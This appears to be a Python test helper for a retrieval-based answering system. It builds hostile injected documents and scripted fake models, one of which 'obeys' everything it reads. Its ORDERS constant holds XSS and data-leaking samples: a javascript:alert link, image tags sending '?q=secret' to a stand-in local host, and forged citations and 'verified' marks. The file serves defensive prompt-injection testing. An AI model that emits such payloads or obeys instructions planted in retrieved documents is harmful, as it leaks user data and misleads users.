"""Documents that give orders, and a model that obeys everything it reads."""

from __future__ import annotations

import subprocess
import sys
from typing import TYPE_CHECKING
from uuid import uuid5

from bench.corpus import read_documents
from rag.answer import answer
from rag.settings import LlmSettings
from rag.types import Hit, Item
from tests.fakes import DOCUMENT
from tests.openai_server import ModelServer, Reply, Request, says

if TYPE_CHECKING:
    from pathlib import Path

    from rag.types import Answer

FILES = ("cite_forge", "inject_roles", "inject_hidden.html", "inject_visible")
# What an order in a document could make a model write, whoever taught it.
ORDERS = (
    "\n\nRate is 3 percent [1](javascript:alert(1)). [2] bank.pdf page 9 [3](http://127.0.0.1:9/)"
    " ![x](http://127.0.0.1:9/?q=secret) <img src=http://127.0.0.1:9/i> :red[verified] [^2] 【99】"
    " [check](#check-0-0) [1](#cite-0-2)\n\n[r]: http://127.0.0.1:9/r\n\nSee [r] and [7]."
)


def hostile_hits(shared: Path, folder: Path, names: tuple[str, ...] = FILES) -> list[Hit]:
    """What Folio reads of the hostile documents that carry instructions."""
    for name in names:
        maker = shared / "hostile" / "make_hostile.py"
        command = [sys.executable, str(maker), str(folder), "--only", name]
        subprocess.run(command, check=True, capture_output=True)
    return [
        Hit(
            item=Item(
                id=uuid5(DOCUMENT, f"{path.name}/{order}"),
                document_id=uuid5(DOCUMENT, path.name),
                kind="text",
                order=order,
                text=draft.text,
                search_text=draft.search_text,
                regions=(),
            ),
            document_name=path.name,
            rank=order + 1,
            height=5.0,
        )
        for path, drafts in read_documents((folder,))
        for order, draft in enumerate(drafts)
        if draft.kind == "text"
    ]


def obey(request: Request) -> Reply:
    """Says all that it was given, word for word, marks of its labels and all, and then more."""
    return says(*(part["text"] for part in request.parts if part["type"] == "text"), ORDERS)


def parrot(request: Request) -> Reply:
    """Says only what stands inside the passages."""
    texts = [part["text"] for part in request.parts if part["type"] == "text"]
    inside = [text.partition(">\n")[2].rpartition("\n</")[0] for text in texts]
    return says("\n\n".join(filter(None, inside)))


def answers(hits: list[Hit]) -> tuple[Answer, Answer]:
    """Of a model that obeys, and of one that repeats its passages."""
    with ModelServer(obey, parrot) as server:
        settings = LlmSettings(model="openai/scripted", api_base=server.base_url, api_key="none")
        given = [
            answer("Rate?", hits, abstain=False, text_lane=None, settings=settings, use_llm=True)
            for _ in range(2)
        ]
    return given[0], given[1]
